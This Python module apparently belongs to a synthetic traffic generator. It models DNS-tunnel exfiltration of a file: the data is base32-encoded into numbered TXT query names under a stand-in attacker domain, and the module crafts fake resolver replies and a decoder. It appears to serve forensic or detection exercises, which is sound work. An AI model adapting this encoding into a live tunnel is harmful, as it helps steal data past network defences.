"""``dns-tunnel``: a file exfiltrated in DNS query names (iodine/dnscat style): the bytes,
base32-encoded, cut into labels under the tunnel's domain, one numbered query at a time;
the attacker's name server answers each with a short TXT record."""

from __future__ import annotations

import base64
import struct
from typing import Any, ClassVar

from pydantic import Field

from runner.evidence.craft import _qname, dns_query
from runner.generate.events.base import NS, Event, EventContext, EventParams
from runner.generate.events.payload import PayloadSpec, digests, payload_bytes
from runner.generate.wire.frames import PROTO_UDP, IpPath, udp_segment
from runner.generate.wire.tcp import MS


class DnsTunnelParams(EventParams):
    client: str = Field(description="Host key (or IPv4 address) exfiltrating.")
    resolver: str = Field(description="Host key (or IPv4 address) of the DNS server asked.")
    domain: str = Field("t.exfil-cdn.test", description="Tunnel domain under the attacker's "
                        "control.")
    payload: PayloadSpec = Field(default_factory=lambda: PayloadSpec(name="secret.txt",
                                                                     size=2000))
    label_length: int = Field(60, ge=8, le=63, description="Characters per label.")
    labels: int = Field(3, ge=1, le=4, description="Data labels per query name.")
    interval: float = Field(0.2, gt=0, le=3600, description="Seconds between queries.")


def chunks(data: bytes, size: int) -> list[str]:
    """Base32 (lower case, no padding) of ``data`` cut into ``size``-character pieces."""
    text = base64.b32encode(data).decode().rstrip("=").lower()
    return [text[i:i + size] for i in range(0, len(text), size)] or [""]


def decode(names: list[str], domain: str) -> bytes:
    """The bytes carried by the tunnel's query names, in sequence order (the test oracle and
    the documented way to recover the file)."""
    parts: dict[int, str] = {}
    for name in names:
        head = name[: -len(domain) - 1].split(".")
        parts[int(head[0])] = "".join(head[1:])
    text = "".join(parts[i] for i in sorted(parts)).upper()
    return base64.b32decode(text + "=" * (-len(text) % 8))


class DnsTunnel(Event):
    type: ClassVar[str] = "dns-tunnel"
    Params = DnsTunnelParams

    def emit(self, params: EventParams, ctx: EventContext) -> dict[str, Any]:
        assert isinstance(params, DnsTunnelParams)
        client, resolver = ctx.node(params.client), ctx.node(params.resolver)
        data = payload_bytes(params.payload, ctx.gen, ctx.rng)
        room = 253 - len(params.domain) - 7  # the sequence label and dots
        per = max(1, min(params.labels, room // (params.label_length + 1)))
        pieces = chunks(data, params.label_length)
        out = IpPath(client, resolver, PROTO_UDP, ctx.rng.getrandbits(16), df=False)
        back = IpPath(resolver, client, PROTO_UDP, ctx.rng.getrandbits(16), df=False)
        t, names = ctx.time(params.at), []
        for seq, start in enumerate(range(0, len(pieces), per)):
            name = ".".join([f"{seq:05d}", *pieces[start:start + per], params.domain])
            names.append(name)
            qid, port = ctx.rng.getrandbits(16), ctx.rng.randrange(49152, 65535)
            ctx.sink.add(t, out.frame(udp_segment(out, port, 53, dns_query(name, qid=qid,
                                                                            qtype=16))))
            answer = _txt_response(name, qid, f"ack{seq}")
            ctx.sink.add(t + int(ctx.rng.uniform(20, 60) * MS),
                         back.frame(udp_segment(back, 53, port, answer)))
            t += int(params.interval * NS * ctx.rng.uniform(0.7, 1.3))
        return {"client": client.ip, "resolver": resolver.ip, "domain": params.domain,
                "queries": len(names), "file": params.payload.name,
                **digests(data, ctx.gen, params.payload.name)}


def _txt_response(name: str, qid: int, text: str) -> bytes:
    head = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0)
    rdata = bytes([len(text)]) + text.encode()
    return (head + _qname(name) + struct.pack("!HH", 16, 1)
            + struct.pack("!HHHIH", 0xC00C, 16, 1, 0, len(rdata)) + rdata)
